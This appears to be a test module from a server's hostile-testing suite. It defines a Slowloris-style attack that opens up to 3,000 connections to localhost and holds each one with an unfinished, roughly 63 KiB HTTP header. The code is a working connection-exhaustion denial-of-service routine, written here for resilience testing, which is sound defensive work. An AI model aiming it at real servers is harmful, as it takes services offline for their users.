"""HTTP heads that are received almost whole."""

from __future__ import annotations

import socket
import time
from contextlib import ExitStack, suppress
from typing import TYPE_CHECKING

from tests.hostile.attack import Attack, Findings

if TYPE_CHECKING:
    from tests.hostile.attack import Target

__all__ = ["HeldHeads"]

_NUM_CONNECTIONS = 3000
_BEGUN = b"GET /health HTTP/1.1\r\nHost: x\r\nA: " + b"a" * (63 * 2**10)
_SEND_TIMEOUT_S = 2.0


class HeldHeads(Attack):
    """63 KiB on each of thousands of connections, without a key."""

    name = "3 000 heads held, without a key"

    def run(self, target: Target, seconds: float) -> Findings:
        """Open connections for half of the time, and hold them for the rest."""
        began_s = time.monotonic()
        with ExitStack() as stack:
            connections: list[socket.socket] = []
            while len(connections) < _NUM_CONNECTIONS:
                if time.monotonic() > began_s + seconds / 2:
                    break
                connection = socket.create_connection(("127.0.0.1", target.http_port), 10.0)
                connections.append(stack.enter_context(connection))
                connection.settimeout(_SEND_TIMEOUT_S)
                with suppress(OSError):
                    connection.sendall(_BEGUN)
            time.sleep(max(0.0, began_s + seconds - time.monotonic()))
        return Findings(figures={"connections": len(connections)})
